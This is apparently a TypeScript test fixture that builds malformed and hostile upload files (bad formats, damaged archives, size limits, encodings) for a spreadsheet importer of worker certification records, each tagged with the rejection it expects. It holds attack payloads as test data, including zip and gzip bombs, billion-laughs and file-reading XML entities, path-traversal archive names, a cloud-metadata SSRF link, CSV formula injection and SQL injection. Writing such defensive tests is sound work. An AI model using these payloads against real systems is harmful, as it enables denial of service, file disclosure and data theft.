// Files that somebody might send to do harm, by mistake or on purpose, each with the reasons that are right for it.
// `read` stands for a file that is taken, with its rows one by one good or bad.
import { randomBytes } from "node:crypto";
import { gzipSync } from "node:zlib";
import { type Packed, sheetXml, xlsxOf, zipOf } from "../support/workbooks.ts";

export interface HostileFile {
  readonly name: string;
  readonly expected: readonly string[];
  /** Large, or slow: not for the quick suite */
  readonly isHeavy?: boolean;
  make(): Buffer;
}

const headings = ["Nama", "NIK", "Tanggal Lahir", "Kejuruan", "Skema", "No Sertifikat", "Tanggal Terbit"];
const cells = [
  "Siti Aminah",
  "5203994503989001",
  "05-03-1998",
  "LAS",
  "Plate Welder SMAW 3G/PF",
  "25920 7212 2 9000991 2026",
  "02-03-2026",
];
const head = headings.join(",");
const line = cells.join(",");
const good = `${head}\n${line}\n`;
const bytes = (text: string, encoding: BufferEncoding = "utf8") => Buffer.from(text, encoding);
const zeros = (size: number) => Buffer.alloc(size);
const MB = 1024 * 1024;

const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
/** A workbook whose sheet is this XML. */
const sheet = (xml: string | Buffer, more: readonly Packed[] = []) =>
  xlsxOf([{ name: "Data", rows: [] }], { more: [{ name: "xl/worksheets/sheet1.xml", content: xml }, ...more] });
const rowsXml = (inside: string) => `<worksheet xmlns="${MAIN}"><sheetData>${inside}</sheetData></worksheet>`;
const headXml = sheetXml([headings])
  .toString()
  .replace(/^.*<sheetData>|<\/sheetData>.*$/gs, "");
const book = (rows: Iterable<readonly (string | number | { xml: string })[]>) => xlsxOf([{ name: "Data", rows }]);
const ole = (...names: string[]) =>
  Buffer.concat([bytes("d0cf11e0a1b11ae1", "hex"), zeros(512), ...names.map((name) => bytes(name, "utf16le"))]);
const sharedBook = (sst: string | Buffer) =>
  xlsxOf([{ name: "Data", rows: [headings, cells] }], {
    shared: true,
    more: [{ name: "xl/sharedStrings.xml", content: sst }],
  });

function* repeated(count: number, make: (at: number) => string): Generator<string> {
  for (let at = 0; at < count; at++) yield make(at);
}
const many = (count: number, make: (at: number) => string) => [...repeated(count, make)].join("");

const named: readonly [string, string | readonly string[], () => Buffer, "heavy"?][] = [
  // What is no spreadsheet at all
  ["nothing", "empty", () => zeros(0)],
  ["one blank", "no-headings", () => bytes(" ")],
  ["a PDF", "pdf", () => bytes("%PDF-1.7\n%âãÏÓ\n")],
  ["a PDF named .csv with a table's words", "pdf", () => bytes(`%PDF-1.4\n${good}`)],
  ["a PNG", "picture", () => bytes("89504e470d0a1a0a0000000d49484452", "hex")],
  ["a JPEG", "picture", () => bytes("ffd8ffe000104a464946", "hex")],
  ["a GIF", "picture", () => bytes("GIF89a")],
  ["a HEIC photo", "picture", () => bytes("\u0000\u0000\u0000\u0018ftypheic")],
  ["a WEBP", "picture", () => bytes("RIFF\u0000\u0000\u0000\u0000WEBP")],
  ["an old Excel file", "xls", () => ole("Workbook")],
  ["a still older one", "xls", () => bytes("0908100000060500", "hex")],
  ["an old Word file", "document", () => ole("WordDocument")],
  ["a workbook with a password", "encrypted", () => ole("EncryptionInfo", "EncryptedPackage")],
  [
    "an encrypted entry",
    "encrypted",
    () =>
      zipOf([
        { name: "[Content_Types].xml", content: "<Types/>", flags: 1 },
        { name: "xl/workbook.xml", content: "x", flags: 1 },
      ]),
  ],
  [
    "a LibreOffice file",
    "ods",
    () =>
      zipOf([
        { name: "mimetype", content: "application/vnd.oasis.opendocument.spreadsheet", stored: true },
        { name: "content.xml", content: "<x/>" },
      ]),
  ],
  ["a Numbers file", "numbers", () => zipOf([{ name: "Index/Document.iwa", content: "x" }])],
  [
    "a binary workbook",
    "xlsb",
    () =>
      zipOf([
        { name: "[Content_Types].xml", content: "<Types/>" },
        { name: "xl/workbook.bin", content: "x" },
      ]),
  ],
  [
    "a Word file",
    "document",
    () =>
      zipOf([
        { name: "[Content_Types].xml", content: "<Types/>" },
        { name: "word/document.xml", content: "<x/>" },
      ]),
  ],
  [
    "slides",
    "document",
    () =>
      zipOf([
        { name: "[Content_Types].xml", content: "<Types/>" },
        { name: "ppt/presentation.xml", content: "<x/>" },
      ]),
  ],
  ["rich text", "document", () => bytes("{\\rtf1 Nama NIK}")],
  ["a web page named .xls", "web-page", () => bytes(`<html><table><tr><td>Nama</td></tr></table></html>`)],
  ["a web page behind a mark and blanks", "web-page", () => bytes("\ufeff\n\n  <!DOCTYPE HTML><html>")],
  ["XML", "web-page", () => bytes('<?xml version="1.0"?><Workbook/>')],
  ["a program", "unknown-type", () => bytes("7f454c46020101", "hex")],
  ["a Windows program", "unknown-type", () => bytes("4d5a90000300", "hex")],
  ["noise", ["unknown-type", "encoding", "no-headings", "row-too-long"], () => randomBytes(100_000)],
  [
    "noise with a table before it",
    ["unknown-type", "read", "row-too-long", "broken"],
    () => Buffer.concat([bytes(good), randomBytes(50_000)]),
  ],
  ["a megabyte of zeros", "unknown-type", () => zeros(MB)],
  ["JSON", "no-headings", () => bytes(JSON.stringify([{ nama: "Siti", nik: "1" }]))],
  ["a long letter", "no-headings", () => bytes("Kepada Yth.\nBapak/Ibu\n\n".repeat(2_000))],
  ["a music file", "unknown-type", () => bytes("ID3\u0003\u0000\u0000")],
  // Packed together
  ["a gzip", "archive", () => gzipSync(good)],
  ["a gzip bomb", "archive", () => gzipSync(zeros(100 * MB)), "heavy"],
  ["a rar", "archive", () => bytes("526172211a0700", "hex")],
  ["a 7z", "archive", () => bytes("377abcaf271c", "hex")],
  ["a tar", "archive", () => Buffer.concat([zeros(257), bytes("ustar"), zeros(250)])],
  ["an empty zip", "archive", () => zipOf([])],
  ["a zip of a CSV", "archive", () => zipOf([{ name: "data.csv", content: good }])],
  ["a zip of a workbook", "archive", () => zipOf([{ name: "data.xlsx", content: book([headings, cells]) }])],
  [
    "a zip in a zip in a zip",
    "archive",
    () =>
      [1, 2, 3].reduce(
        (inner) => zipOf([{ name: "again.zip", content: inner, stored: true }]),
        zipOf([{ name: "x.csv", content: good }]),
      ),
  ],
  ["a zip that holds itself by name", "archive", () => zipOf([{ name: "r/r.zip", content: "PK" }])],
  [
    "two thousand files more than a workbook has",
    "archive",
    () => zipOf(Array.from({ length: 2_500 }, (_, at) => ({ name: `f${at}`, content: "" }))),
  ],
  [
    "a hundred thousand files",
    ["archive", "broken"],
    () => zipOf(Array.from({ length: 65_000 }, (_, at) => ({ name: `f${at}`, content: "", stored: true }))),
    "heavy",
  ],
  [
    "names that lead out of the archive",
    ["broken", "read"],
    () => xlsxOf([{ name: "Data", rows: [headings, cells] }], { more: [{ name: "../../etc/passwd", content: "x" }] }),
  ],
  [
    "names that begin at the root",
    ["broken", "read"],
    () => xlsxOf([{ name: "Data", rows: [headings, cells] }], { more: [{ name: "/etc/passwd", content: "x" }] }),
  ],
  [
    "names of Windows",
    ["broken", "read"],
    () => xlsxOf([{ name: "Data", rows: [headings, cells] }], { more: [{ name: "C:\\windows\\x", content: "x" }] }),
  ],
  [
    "a sheet that is said to lie elsewhere",
    ["no-headings", "broken"],
    () =>
      xlsxOf([{ name: "Data", rows: [headings, cells] }], {
        more: [
          {
            name: "xl/_rels/workbook.xml.rels",
            content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x/worksheet" Target="../../../../etc/passwd"/></Relationships>`,
          },
        ],
      }),
  ],
  [
    "a sheet that is said to lie on the internet",
    ["no-headings"],
    () =>
      xlsxOf([{ name: "Data", rows: [headings, cells] }], {
        more: [
          {
            name: "xl/_rels/workbook.xml.rels",
            content: `<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="http://169.254.169.254/" TargetMode="External"/></Relationships>`,
          },
        ],
      }),
  ],
  // Cut off, damaged
  ["a workbook cut in the middle", "broken", () => book([headings, cells]).subarray(0, 900)],
  ["a workbook without its end", "broken", () => book([headings, cells]).subarray(0, -30)],
  ["only the first four bytes of one", "broken", () => bytes("504b0304", "hex")],
  ["a workbook with a byte flipped in its sheet", ["broken", "read"], () => flipped(book([headings, cells]), 1_200)],
  ["a workbook with noise in its middle", ["broken", "no-headings"], () => noisy(book([headings, cells]))],
  ["a workbook without a workbook", "broken", () => zipOf([{ name: "[Content_Types].xml", content: "<Types/>" }])],
  [
    "a size that is a lie",
    "broken",
    () =>
      zipOf([
        { name: "[Content_Types].xml", content: "<Types/>" },
        { name: "xl/workbook.xml", content: "<workbook/>", statedSize: 4_000_000_000 },
      ]),
  ],
  ["tags that are never closed", "broken", () => sheet(`<worksheet><sheetData><row><c>`)],
  ["tags that close others", "broken", () => sheet(rowsXml("<row></c></row>"))],
  ["a sheet that is no XML", "broken", () => sheet("PK\u0003\u0004 not xml")],
  [
    "a shared text that there is not",
    "broken",
    () => sheet(rowsXml(`${headXml}<row r="2"><c t="s"><v>999999</v></c></row>`)),
  ],
  ["a CSV cut within quotes", ["broken", "row-too-long"], () => bytes(`${head}\n"Siti Aminah,1`)],
  // Bombs
  [
    "a zip bomb in the sheet",
    ["bomb", "row-too-long"],
    () => sheet(Buffer.concat([bytes(`<worksheet><sheetData>`), Buffer.alloc(300 * MB, " ")])),
    "heavy",
  ],
  [
    "a zip bomb of valid rows",
    ["bomb", "too-many-rows", "no-headings"],
    () => sheet(Buffer.concat([bytes("<worksheet><sheetData>"), Buffer.alloc(240 * MB, "<row><c><v>1</v></c></row>")])),
    "heavy",
  ],
  [
    "a zip bomb in the shared texts",
    "bomb",
    () => sharedBook(Buffer.concat([bytes("<sst>"), Buffer.alloc(240 * MB, "<si><t>aaaaaaaaaaaaaaaa</t></si>")])),
    "heavy",
  ],
  [
    "a zip bomb in the styles",
    "bomb",
    () =>
      xlsxOf([{ name: "Data", rows: [headings, cells] }], {
        more: [
          {
            name: "xl/styles.xml",
            content: Buffer.concat([bytes("<styleSheet><cellXfs>"), Buffer.alloc(60 * MB, "<xf/>")]),
          },
        ],
      }),
    "heavy",
  ],
  [
    "a zip bomb in a part that nobody reads",
    "read",
    () =>
      xlsxOf([{ name: "Data", rows: [headings, cells] }], {
        more: [{ name: "xl/media/image1.png", content: zeros(200 * MB) }],
      }),
    "heavy",
  ],
  [
    "a billion laughs",
    "broken",
    () =>
      sheet(
        `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><worksheet><sheetData><row><c><v>&b;</v></c></row></sheetData></worksheet>`,
      ),
  ],
  [
    "an entity that reads a file",
    "broken",
    () =>
      sheet(
        `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row><c><v>&f;</v></c></row></sheetData></worksheet>`,
      ),
  ],
  [
    "a document type without an end",
    ["broken", "row-too-long"],
    () => sheet(`<!DOCTYPE x [${"<!ENTITY a 'a'>".repeat(200_000)}`),
  ],
  [
    "a tag nested ten thousand deep",
    "broken",
    () => sheet(`<worksheet>${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}</worksheet>`),
  ],
  ["an attribute of ten megabytes", "row-too-long", () => sheet(`<worksheet x="${"a".repeat(10 * MB)}"/>`), "heavy"],
  [
    "a comment of ten megabytes",
    ["row-too-long", "no-headings"],
    () => sheet(`<worksheet><!--${"a".repeat(10 * MB)}--></worksheet>`),
    "heavy",
  ],
  [
    "one shared text of ten megabytes",
    ["row-too-long", "bomb"],
    () => sharedBook(`<sst><si><t>${"a".repeat(10 * MB)}</t></si></sst>`),
    "heavy",
  ],
  [
    "a shared text in a million pieces",
    ["row-too-long", "bomb", "broken"],
    () => sharedBook(`<sst><si>${"<r><t>aaaaaaaaaaaaaaaa</t></r>".repeat(1_000_000)}</si></sst>`),
    "heavy",
  ],
  [
    "two million shared texts",
    "bomb",
    () => sharedBook(`<sst>${many(2_000_000, (at) => `<si><t>${at}</t></si>`)}</sst>`),
    "heavy",
  ],
  // Long and wide
  ["a million rows as CSV", "too-many-rows", () => bytes(`${head}\n${"a,1,b,c,d,e,f\n".repeat(1_000_000)}`), "heavy"],
  ["a million rows of nothing but commas", "read", () => bytes(`${good}${",,,,,,\n".repeat(1_000_000)}`), "heavy"],
  ["a million blank rows as CSV", "read", () => bytes(`${good}${"\n".repeat(1_000_000)}`), "heavy"],
  [
    "a million rows as a workbook",
    ["too-many-rows", "bomb"],
    () =>
      sheet(
        Buffer.concat([
          bytes(`<worksheet><sheetData>${headXml}`),
          bytes(many(1_000_000, (at) => `<row r="${at + 2}"><c t="inlineStr"><is><t>${at}</t></is></c></row>`)),
          bytes("</sheetData></worksheet>"),
        ]),
      ),
    "heavy",
  ],
  [
    "a million empty rows as a workbook",
    ["no-rows", "bomb"],
    () =>
      sheet(
        Buffer.concat([
          bytes(`<worksheet><sheetData>${headXml}`),
          bytes(many(1_000_000, (at) => `<row r="${at + 2}" ht="15"/>`)),
          bytes("</sheetData></worksheet>"),
        ]),
      ),
    "heavy",
  ],
  [
    "a million columns as CSV",
    ["too-many-columns", "row-too-long"],
    () => bytes(`${"x,".repeat(1_000_000)}\n${line}\n`),
    "heavy",
  ],
  ["a thousand columns as CSV", "too-many-columns", () => bytes(`${head}${",x".repeat(1_000)}\n${line}\n`)],
  ["a thousand empty columns as CSV", "read", () => bytes(`${head}${",".repeat(1_000)}\n${line}\n`)],
  [
    "a thousand columns as a workbook",
    "too-many-columns",
    () => book([[...headings, ...Array.from({ length: 1_000 }, (_, at) => `x${at}`)]]),
  ],
  ["a cell far out", "too-many-columns", () => sheet(rowsXml(`${headXml}<row r="2"><c r="XFD2"><v>1</v></c></row>`))],
  [
    "a row far down",
    "read",
    () => sheet(rowsXml(`${headXml}<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>Siti</t></is></c></row>`)),
  ],
  [
    "rows that count backwards",
    "read",
    () =>
      sheet(
        rowsXml(`${headXml}${many(50, (at) => `<row r="${50 - at}"><c t="inlineStr"><is><t>Siti</t></is></c></row>`)}`),
      ),
  ],
  [
    "rows numbered beyond all numbers",
    "read",
    () =>
      sheet(
        rowsXml(
          `${headXml}<row r="1e308"><c t="inlineStr"><is><t>Siti</t></is></c></row><row r="-5"><c t="inlineStr"><is><t>Siti</t></is></c></row>`,
        ),
      ),
  ],
  ["one line of fifteen megabytes", ["row-too-long", "no-headings"], () => bytes("a".repeat(15 * MB)), "heavy"],
  ["one cell of a megabyte", "row-too-long", () => bytes(`${head}\n${"a".repeat(MB)}${line}\n`)],
  ["one cell of a megabyte in a workbook", "row-too-long", () => book([headings, ["a".repeat(MB)]])],
  ["quotes by the million", ["row-too-long", "read", "broken"], () => bytes(`${head}\n${'"'.repeat(3 * MB + 1)}`)],
  ["more bytes than are taken", "too-big", () => Buffer.alloc(21 * MB, "a,b\n"), "heavy"],
  // Encodings
  ["UTF-32", "encoding", () => Buffer.concat([bytes("fffe0000", "hex"), bytes("4e000000", "hex")])],
  [
    "half a UTF-16 sign at the end",
    "read",
    () => Buffer.concat([bytes(`\ufeff${good}`, "utf16le"), bytes("41", "hex")]),
  ],
  [
    "UTF-16 that says it is the other",
    ["unknown-type", "no-headings", "broken", "row-too-long"],
    () => Buffer.concat([bytes("feff", "hex"), bytes(good, "utf16le")]),
  ],
  [
    "broken UTF-8 all over",
    ["read", "no-headings"],
    () => Buffer.concat([bytes(good), bytes("c328a0a1e28281f0288cbc2c2c0a".repeat(50), "hex")]),
  ],
  ["overlong UTF-8", ["read", "no-headings"], () => Buffer.concat([bytes(good), bytes("c080c0af2c2c0a", "hex")])],
  ["zeros between the letters", ["unknown-type", "read"], () => bytes(good.replaceAll("Siti", "Si\u0000ti"))],
  ["signs that turn the writing round", "read", () => bytes(`${head}\n\u202e${line}\u2066\n`)],
  ["signs that show nothing", "read", () => bytes(`${head}\n${"\u200b".repeat(2_000)}${line}\n`)],
  // Tables that mean harm to whoever reads them
  [
    "formulas in every cell",
    "read",
    () => bytes(`${head}\n${cells.map(() => `"=cmd|' /C calc'!A0"`).join(",")}\n@SUM(1),+1,-1,=1,x,y,z\n`),
  ],
  [
    "formulas in a workbook",
    "read",
    () =>
      book([headings, cells.map(() => ({ xml: `<c t="str"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>=1+1</v></c>` }))]),
  ],
  [
    "a link to another workbook",
    "read",
    () =>
      xlsxOf([{ name: "Data", rows: [headings, cells] }], {
        more: [{ name: "xl/externalLinks/externalLink1.xml", content: "<externalLink/>" }],
      }),
  ],
  [
    "macros",
    "read",
    () =>
      xlsxOf([{ name: "Data", rows: [headings, cells] }], {
        more: [{ name: "xl/vbaProject.bin", content: randomBytes(1_000) }],
      }),
  ],
  [
    "the same headings twice",
    "duplicate-headings",
    () => bytes(`Nama,NIK,Nama Lengkap,Tanggal Lahir,Kejuruan,Skema\n${line}\n`),
  ],
  ["headings without what is needed", "missing-headings", () => bytes(`Nama,NIK,Level\n${line}\n`)],
  ["only headings", "no-rows", () => bytes(`${head}\n`)],
  ["headings again and again", "read", () => bytes(`${head}\n`.repeat(500))],
  ["headings after thirty lines", "no-headings", () => bytes(`${"judul\n".repeat(30)}${good}`)],
  [
    "Telegram's HTML in every cell",
    "read",
    () => bytes(`${head}\n${cells.map(() => "<a href='tg://x'>x</a>&amp;").join(",")}\n`),
  ],
  [
    "names of what every object has",
    "read",
    () => bytes(`${head}\n__proto__,constructor,toString,hasOwnProperty,valueOf,prototype,x\n`),
  ],
  ["headings that every object has", ["no-headings"], () => bytes(`__proto__,constructor,toString\n1,2,3\n`)],
  [
    "SQL in every cell",
    "read",
    () => bytes(`${head}\n${cells.map(() => `'; drop table "Certification"; --`).join(",")}\n`),
  ],
  [
    "half the rows bad",
    "read",
    () =>
      bytes(
        `${head}\n${many(200, (at) => `${at % 2 ? line.replace("9000991", String(9_100_000 + at)) : ",,,,,,"}x\n`)}`,
      ),
  ],
  [
    "a hundred sheets more than there may be",
    ["bomb", "no-headings"],
    () => xlsxOf(Array.from({ length: 150 }, (_, at) => ({ name: `S${at}`, rows: [["x"]] }))),
  ],
  ["only hidden sheets", "no-headings", () => xlsxOf([{ name: "Data", rows: [headings, cells], hidden: true }])],
];

/** All of them. */
export const hostileFiles: readonly HostileFile[] = named.map(([name, expected, make, heavy]) => ({
  name,
  expected: typeof expected === "string" ? [expected] : expected,
  make,
  isHeavy: heavy === "heavy",
}));

function flipped(file: Buffer, at: number): Buffer {
  const damaged = Buffer.from(file);
  damaged[Math.min(at, damaged.length - 1)] = (damaged[Math.min(at, damaged.length - 1)] ?? 0) ^ 0xff;
  return damaged;
}

function noisy(file: Buffer): Buffer {
  const half = Math.floor(file.length / 2);
  return Buffer.concat([file.subarray(0, half), randomBytes(400), file.subarray(half + 400)]);
}
